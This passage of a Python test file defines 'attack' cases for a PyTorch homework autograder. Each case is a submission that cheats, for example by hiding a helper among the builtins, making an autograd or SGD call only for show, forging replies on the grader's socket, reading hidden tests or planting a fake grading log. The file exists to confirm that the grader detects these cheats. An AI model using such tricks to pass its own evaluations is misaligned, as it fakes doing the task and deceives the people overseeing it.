           transform=cell_after(STORED_IN_TORCH)),
    attack("stored_in_builtins_q1",
           "the reference, but backward calls mse_step, a name the notebook never defines: "
           "put among the builtins at run time, it uses torch.autograd.grad",
           base="reference", expect={"q1": METHOD_MAX["q1"], "q2": "full", "q3": "full"},
           feedback={"q1": ["method_no_autograd", "defined nowhere in the notebook"]},
           replace=adaline1_with_backward(
               "return mse_step(x, yhat, y, self.weight, self.bias)\n"),
           transform=cell_after(STORED_IN_BUILTINS)),
    attack("helper_variable_q1",
           "the reference, but backward calls mse_step, a variable set to what a notebook "
           "function returns (a function that uses torch.autograd.grad)",
           base="reference", expect={"q1": METHOD_MAX["q1"], "q2": "full", "q3": "full"},
           feedback={"q1": ["method_no_autograd", "torch.autograd.grad"]},
           replace=adaline1_with_backward(
               "return mse_step(x, yhat, y, self.weight, self.bias)\n"),
           transform=cell_after(HELPER_VARIABLE)),
    attack("unused_grad_call_q2",
           "the reference, but train_autograd updates with hand-written gradients and calls "
           "torch.autograd.grad only for show (its result is thrown away)",
           base="reference", expect={"q1": "full", "q2": METHOD_MAX["q2"], "q3": "full"},
           diagnosis={"q2": "grad_result_unused"},
           feedback={"q2": ["method_autograd_grad"]}, replace=UNUSED_GRAD_Q2),
    attack("repeat_aware_q2",
           "hand-written updates beside a thrown-away torch.autograd.grad call; train_autograd "
           "remembers (seed, x.shape, x.sum()) of its calls and halves its own steps when a "
           "run repeats, to mimic grad()'s marked results",
           base="reference", expect={"q1": "full", "q2": METHOD_MAX["q2"], "q3": "full"},
           diagnosis={"q2": "grad_result_unused"},
           feedback={"q2": ["method_autograd_grad", "did not follow"]},
           replace=REPEAT_AWARE_Q2),
    attack("hand_bias_q2",
           "the reference, but train_autograd takes only the weight's gradient from "
           "torch.autograd.grad and derives the bias's by hand",
           base="reference", expect={"q1": "full", "q2": METHOD_MAX["q2"], "q3": "full"},
           diagnosis={"q2": "grad_result_unused"},
           feedback={"q2": ["method_autograd_grad", "did not follow"]},
           replace=HAND_BIAS_Q2),
    attack("sgd_lr_zero_q3",
           "the reference, but train_nn's SGD has lr=0 and the parameters are updated by hand "
           "after optimizer.step()",
           base="reference", expect={"q1": "full", "q2": "full", "q3": METHOD_MAX["q3"]},
           diagnosis={"q3": "sgd_not_used"},
           feedback={"q3": ["method_sgd_backward", "outside optimizer.step()"]},
           replace=SGD_LR_ZERO_Q3),
    attack("one_sgd_step_q3",
           "the reference, but train_nn makes one real optimizer.step() and updates the "
           "parameters by hand in every other minibatch",
           base="reference", expect={"q1": "full", "q2": "full", "q3": METHOD_MAX["q3"]},
           diagnosis={"q3": "sgd_not_used"},
           feedback={"q3": ["method_sgd_backward", "outside optimizer.step()"]},
           replace=ONE_SGD_STEP_Q3),
    # --- the grader's socket -----------------------------------------------------------------
    attack("socket_forgery",
           "writes forged replies (perfect data, guessed nonces) to every socket of its "
           "process, at cell time and from inside backward",
           feedback={"q1": ["SOCKETFORGERY"], "q2": ["NotImplementedError"],
                     "q3": ["NotImplementedError"]},
           replace=stub_with("Adaline1", SOCKET_BACKWARD),
           add_cells=[PUBLISHED_CELL, SOCKET_FORGERY]),
]

# Reports written by the searching cases into their error messages (see the module docstring).
REPORTS = {
    "reads_hidden_tests": {
        "q1": r"LEAKCHECK found=(?P<found>\d+) tried=(?P<tried>\d+) control=(?P<control>\w+) "
              r"kit=(?P<kit>\S*) first=(?P<first>\[.*?\])",
        "q2": r"LEAKCHECK found=(?P<found>\d+) tried=(?P<tried>\d+) control=(?P<control>\w+) "
              r"kit=(?P<kit>\S*) first=(?P<first>\[.*?\])",
    },
    "writes_fake_results": {"q1": r"FAKERESULTS wrote=(?P<wrote>\d+) tried=(?P<tried>\d+)"},
    "forges_otter_log": {"q1": r"FORGEDLOG planted=(?P<planted>\d+) tried=(?P<tried>\d+)"},
    "socket_forgery": {"q1": r"SOCKETFORGERY sent=(?P<sent>\d+) at_cell=(?P<at_cell>\d+)"},
}

MARKERS = {"forges_otter_log": FORGED_LOG_MARKER}
